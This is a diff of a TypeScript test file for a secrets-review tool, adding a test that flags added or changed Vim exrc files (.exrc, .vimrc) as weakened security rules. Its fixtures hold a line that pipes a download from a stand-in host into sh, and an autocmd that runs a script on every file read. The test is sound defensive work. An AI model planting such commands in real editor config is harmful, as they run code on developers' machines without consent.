@@ -11,6 +11,7 @@ import { parseEnvironmentFile, parseProjectConfig, WorkspaceIndex } from "../ind
 import { decryptSecrets, encryptSecrets, generateIdentity, reencryptSecrets, rotateDataKey, updateKeys, wrapDataKey } from "@stellar-secrets/sops";
 import { rewrapsOf, sameDataKeyProof } from "./data-key.js";
 import { buildReview } from "./model.js";
+import { EDITOR_SETTINGS_PATHSPECS } from "./editor-settings.js";
 import { nameSkeleton } from "./access.js";
 import { gateWorkflowChanges } from "./program-findings.js";
 import { fingerprint, type EnvironmentReview, type ReviewReport } from "./report.js";
@@ -1776,6 +1777,29 @@ describe("a change to a git hook manager's files (.pre-commit-config.yaml, .husk
     expect(report.problems[1]?.message).toContain("`stellar-secrets pre-commit` among them, may be gone");
     expect(report.problems[3]?.message).toContain("web/.husky/pre-push is new: husky");
     expect(report.clean).toBe(false);
+  });
+});
+
+describe("a Vim exrc file (.exrc, .vimrc, .nvimrc ...) added or changed", () => {
+  it("is weakened-rule at the file (Vim with exrc, and Neovim before 0.9, run it without asking); removed, or Neovim's .nvim.lua (asked again on change), is none", async () => {
+    const { alice, base } = await setup();
+    const members = { alice: alice.recipient };
+    const editorSettings = [
+      { path: ".exrc", before: undefined, after: "silent !curl -s https://example.invalid/x | sh\n" },
+      { path: "web/.vimrc", before: "set ts=2\n", after: "set ts=2\nautocmd BufRead * !./tools/x.sh\n" },
+      { path: ".nvimrc", before: "set ts=2\n", after: undefined },
+      { path: ".nvim.lua", before: undefined, after: "vim.fn.system('x')\n" },
+      { path: "docs/exrc.md", before: "a", after: "b" },
+    ];
+    const report = buildReview(state("a", members, base), state("b", members, base), new Map(), { editorSettings });
+    expect(report.problems.map((p) => [p.kind, p.file])).toEqual([
+      ["weakened-rule", ".exrc"],
+      ["weakened-rule", "web/.vimrc"],
+    ]);
+    expect(report.problems[0]?.message).toMatch(/^\.exrc is new: Vim with its exrc option set \(and Neovim before 0\.9\) reads this file/);
+    expect(report.problems[1]?.message).toContain("web/.vimrc changes: ");
+    // git is asked about them in every folder
+    expect(EDITOR_SETTINGS_PATHSPECS).toEqual(expect.arrayContaining([":(top,glob)**/.exrc", ":(top,glob)**/.vimrc", ":(top,glob)**/.nvimrc"]));
   });
 });
 
